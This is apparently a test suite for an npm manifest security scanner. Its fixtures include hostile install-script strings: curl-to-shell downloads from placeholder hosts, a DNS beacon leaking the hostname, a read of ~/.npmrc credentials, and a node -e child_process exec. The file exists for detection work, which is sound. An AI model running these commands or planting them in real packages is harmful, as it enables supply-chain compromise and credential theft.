import { describe, expect, it } from 'vitest';
import { scanInline } from '../helpers.js';

const manifest = (scripts: Record<string, string>, extra: Record<string, unknown> = {}) => ({
  name: 'fixture-pkg',
  version: '1.0.0',
  scripts,
  ...extra,
});
const ids = (fs: Array<{ ruleId: string }>) => fs.map((f) => f.ruleId);

describe('npm manifest rules', () => {
  it('NPM-001 reports install scripts, NPM-002 their techniques', async () => {
    const { findings } = await scanInline(
      {},
      manifest({ preinstall: 'curl -s https://x.invalid/i.sh | sh' }),
    );
    expect(ids(findings)).toContain('NPM-001');
    expect(findings.find((f) => f.ruleId === 'NPM-002')?.severity).toBe('critical');
  });
  it('NPM-002 treats a bare network call at install as a beacon', async () => {
    const { findings, verdict } = await scanInline(
      {},
      manifest({ preinstall: 'nslookup `hostname`.x.invalid' }),
    );
    const t = findings.filter((f) => f.ruleId === 'NPM-002');
    expect(t.map((f) => f.category)).toContain('exfiltration');
    expect(verdict.verdict).toBe('malicious');
  });
  it('NPM-002 treats a shell-form binary download as a download, not a beacon', async () => {
    const { findings, verdict } = await scanInline(
      {},
      manifest({
        postinstall:
          'curl -fsSL https://releases.example.invalid/v1/tool.tgz -o tool.tgz && tar xzf tool.tgz',
      }),
    );
    expect(findings.filter((f) => f.ruleId === 'NPM-002').map((f) => f.category)).not.toContain(
      'exfiltration',
    );
    expect(verdict.verdict).toBe('clean');
  });
  it('NPM-002 flags reading credential stores in scripts', async () => {
    const { verdict } = await scanInline({}, manifest({ postinstall: 'cat ~/.npmrc || true' }));
    expect(verdict.verdict).toBe('malicious');
  });
  it('NPM-002 leaves ordinary build scripts alone', async () => {
    const { findings, verdict } = await scanInline(
      { 'build.js': 'console.log(1)' },
      manifest({ postinstall: 'node build.js' }),
    );
    expect(ids(findings)).not.toContain('NPM-002');
    expect(verdict.verdict).toBe('clean');
  });
  it('NPM-003 rates build probes in binding.gyp info and dangerous expansions high', async () => {
    const probe = await scanInline({
      'binding.gyp': `{ "targets": [{ "libraries": ["<!@(pkg-config --libs libsecret-1)"] }] }`,
    });
    expect(probe.findings.find((f) => f.ruleId === 'NPM-003')?.severity).toBe('info');
    const bad = await scanInline({
      'binding.gyp': `{ "targets": [{ "libraries": ["<!(curl -s http://192.0.2.1/p | sh)"] }] }`,
    });
    expect(bad.findings.find((f) => f.ruleId === 'NPM-003')?.severity).toBe('critical');
  });
  it('NPM-004 flags URL dependencies but not registry ranges', async () => {
    const { findings } = await scanInline(
      {},
      { name: 'x', version: '1.0.0', dependencies: { a: 'http://192.0.2.1/a.tgz', b: '^1.0.0' } },
    );
    expect(findings.filter((f) => f.ruleId === 'NPM-004')).toHaveLength(1);
  });
  it('NPM-004 weighs an HTTPS vendor tarball medium and raw-IP / plain-HTTP tarballs high', async () => {
    const sev = async (spec: string) =>
      (await scanInline({}, { name: 'x', version: '1.0.0', dependencies: { a: spec } })).findings.find(
        (f) => f.ruleId === 'NPM-004',
      )?.severity;
    expect(await sev('https://cdn.example.com/a-1.0.0.tgz')).toBe('medium');
    expect(await sev('http://cdn.example.com/a-1.0.0.tgz')).toBe('high');
    expect(await sev('https://203.0.113.9/a.tgz')).toBe('high');
  });
  it('NPM-005 flags bins that shadow system commands', async () => {
    const { findings } = await scanInline(
      { 'shim.js': '' },
      { name: 'x', version: '1.0.0', bin: { git: 'shim.js' } },
    );
    expect(ids(findings)).toContain('NPM-005');
    const ok = await scanInline(
      { 'cli.js': '' },
      { name: 'x', version: '1.0.0', bin: { 'my-tool': 'cli.js' } },
    );
    expect(ids(ok.findings)).not.toContain('NPM-005');
  });
  it('NPM-005 leaves the package that is the command alone, but not a scoped look-alike', async () => {
    /** Whether a package of this name providing these bins gets NPM-005. */
    const shadows = async (name: string, bin: Record<string, string>) => {
      const files = Object.fromEntries(Object.values(bin).map((f) => [f, '']));
      const { findings } = await scanInline(files, { name, version: '1.0.0', bin });
      return ids(findings).includes('NPM-005');
    };
    expect(await shadows('pnpm', { pnpm: 'bin/pnpm.cjs' })).toBe(false);
    expect(await shadows('@someone/pnpm', { pnpm: 'bin/pnpm.cjs' })).toBe(true);
    // the tool's other commands (npm's npx) are its own too
    expect(await shadows('npm', { npm: 'a.js', npx: 'b.js' })).toBe(false);
    // scopes are owned: the pnpm organisation's standalone build provides pnpm
    expect(await shadows('@pnpm/exe', { pnpm: 'pnpm.js' })).toBe(false);
    expect(await shadows('@pnprn/exe', { pnpm: 'pnpm.js' })).toBe(true);
  });
  it('NPM-006 flags install scripts whose file is missing, not prepare scripts', async () => {
    const { findings } = await scanInline({}, manifest({ preinstall: 'node index.js' }));
    expect(ids(findings)).toContain('NPM-006');
    const prep = await scanInline({}, manifest({ prepare: 'node scripts/build.js' }));
    expect(ids(prep.findings)).not.toContain('NPM-006');
  });
  it('NPM-007 analyses node -e code with the JavaScript rules', async () => {
    const { findings, verdict } = await scanInline(
      {},
      manifest({ postinstall: `node -e "require('child_process').exec('curl http://192.0.2.1/x | sh')"` }),
    );
    expect(ids(findings)).toContain('NPM-007');
    expect(findings.find((f) => f.ruleId === 'JS-001')?.file).toBe('package.json');
    expect(verdict.verdict).toBe('malicious');
    const benign = await scanInline(
      { 'postinstall.js': '' },
      manifest({ postinstall: `node -e "try{require('./postinstall')}catch(e){}"` }),
    );
    expect(benign.verdict.verdict).toBe('clean');
  });
  it('NPM-008 flags a typosquatted name that runs install code', async () => {
    const { findings, verdict } = await scanInline(
      { 'index.js': 'module.exports = 1' },
      { name: 'supprots-color', version: '9.9.9', scripts: { preinstall: 'node index.js' } },
    );
    const hit = findings.find((f) => f.ruleId === 'NPM-008');
    expect(hit?.evidence?.target).toBe('supports-color');
    expect(hit?.severity).toBe('high');
    expect(verdict.verdict).toBe('malicious');
    // a weaker lookalike (one extra letter) is noted but not enough on its own
    const weak = await scanInline(
      { 'index.js': '' },
      { name: 'expresss', version: '1.0.0', scripts: { preinstall: 'node index.js' } },
    );
    expect(weak.findings.find((f) => f.ruleId === 'NPM-008')?.severity).toBe('medium');
    expect(weak.verdict.verdict).toBe('clean');
    const own = await scanInline(
      { 'index.js': '' },
      { name: 'supports-color', version: '1.0.0', scripts: { postinstall: 'node index.js' } },
    );
    expect(ids(own.findings)).not.toContain('NPM-008');
  });
});
